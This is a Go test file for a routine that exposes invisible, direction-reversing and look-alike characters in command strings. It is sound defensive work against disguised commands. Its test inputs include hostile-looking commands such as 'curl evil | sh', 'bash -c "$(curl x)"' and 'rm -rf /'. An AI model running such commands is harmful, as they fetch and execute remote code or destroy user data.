package problem

import (
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestVisibleShowsWhatHides(t *testing.T) {
	strict := Visible{}
	lines := Visible{Multiline: true}
	for _, c := range []struct {
		name    string
		v       Visible
		in      string
		want    string
		escaped int
	}{
		{"ascii is itself", strict, `ls -la "a b" | grep x`, `ls -la "a b" | grep x`, 0},
		{"direction controls", strict, "ls \u2067\u2066; bash -c \"$(curl x)\" \u2069\u2066 #\u2069\u2069",
			`ls ⟪RLI U+2067⟫⟪LRI U+2066⟫; bash -c "$(curl x)" ⟪PDI U+2069⟫⟪LRI U+2066⟫ #⟪PDI U+2069⟫⟪PDI U+2069⟫`, 6},
		{"override", strict, "echo \u202egnp.exe", "echo ⟪RLO U+202E⟫gnp.exe", 1},
		{"zero width", strict, "rm\u200b -rf\u200d /\ufeff", "rm⟪ZWSP U+200B⟫ -rf⟪ZWJ U+200D⟫ /⟪BOM U+FEFF⟫", 3},
		{"spaces", strict, "git\u00a0push\u3000x\u2009y", "git⟪NBSP U+00A0⟫push⟪IDSP U+3000⟫x⟪U+2009⟫y", 3},
		{"look-alike letters", strict, "\u017fh -c x; саt", "⟪ſ U+017F⟫h -c x; ⟪с U+0441⟫⟪а U+0430⟫t", 3},
		{"combining mark", strict, "e\u0301", "e⟪U+0301⟫", 1},
		{"controls", strict, "a\tb\rc\x1b[2Jd\x00", "a⟪TAB U+0009⟫b⟪CR U+000D⟫c⟪ESC U+001B⟫[2Jd⟪NUL U+0000⟫", 4},
		{"not utf-8", strict, "a\xffb", "a⟪byte 0xFF⟫b", 1},
		{"marks are escaped", strict, "⟪RLO U+202E⟫⏎", "⟪U+27EA⟫RLO U+202E⟪U+27EB⟫⟪U+23CE⟫", 3},
		{"one line", strict, "safe\n\nrm -rf ~", "safe⏎⏎rm -rf ~", 0},
		{"lines kept", lines, "safe\nrm -rf ~\n", "safe⏎\nrm -rf ~⏎\n", 0},
		{"allowed punctuation", Visible{Allow: "—…"}, "a — b… \u202e", "a — b… ⟪RLO U+202E⟫", 1},
		{"allow never lets a mark pass", Visible{Allow: "⏎"}, "⏎", "⟪U+23CE⟫", 1},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, n := c.v.Show(c.in)
			if got != c.want || n != c.escaped {
				t.Errorf("Show(%q) = %q, %d escapes; want %q, %d", c.in, got, n, c.want, c.escaped)
			}
		})
	}
}

// Whatever the input, the shown text is printable ASCII, line breaks and
// the marks, plus characters inside escapes: nothing invisible, nothing
// that reorders text.
func TestVisibleNeverPassesAnInvisibleCharacter(t *testing.T) {
	var all strings.Builder
	for r := rune(0); r < 0x30000; r++ {
		if r < 0xd800 || r > 0xdfff {
			all.WriteRune(r)
		}
	}
	got, _ := Visible{Multiline: true}.Show(all.String())
	inEscape := false
	for i, r := range got {
		switch {
		case strings.HasPrefix(got[i:], EscapeOpen):
			inEscape = true
		case strings.HasPrefix(got[i:], EscapeClose):
			inEscape = false
		case r == '\n' || (r >= 0x20 && r < 0x7f) || string(r) == NewlineMark:
		case inEscape && !invisible(r) && !isMark(r):
		default:
			t.Fatalf("character %U at byte %d is shown raw", r, i)
		}
	}
}

func TestShowCappedKeepsStartAndEnd(t *testing.T) {
	long := "npm test " + strings.Repeat("x", 100<<10) + "é; curl evil | sh"
	got, escaped, hidden := Visible{}.ShowCapped(long, VisibleCapBytes)
	if !strings.HasPrefix(got, "npm test ") || !strings.HasSuffix(got, "⟪é U+00E9⟫; curl evil | sh") {
		t.Errorf("start or end missing: %q…%q", got[:20], got[len(got)-40:])
	}
	if hidden != len(long)-VisibleCapBytes || escaped != 1 {
		t.Errorf("hidden %d (want %d), escaped %d (want 1)", hidden, len(long)-VisibleCapBytes, escaped)
	}
	if !strings.Contains(got, "⟪… "+strconv.Itoa(hidden)+" bytes hidden …⟫") || !utf8.ValidString(got) {
		t.Errorf("no valid gap line saying what is hidden")
	}
	short := "echo hi"
	if got, _, hidden := (Visible{}).ShowCapped(short, VisibleCapBytes); got != short || hidden != 0 {
		t.Errorf("a short value was changed: %q, %d", got, hidden)
	}
}
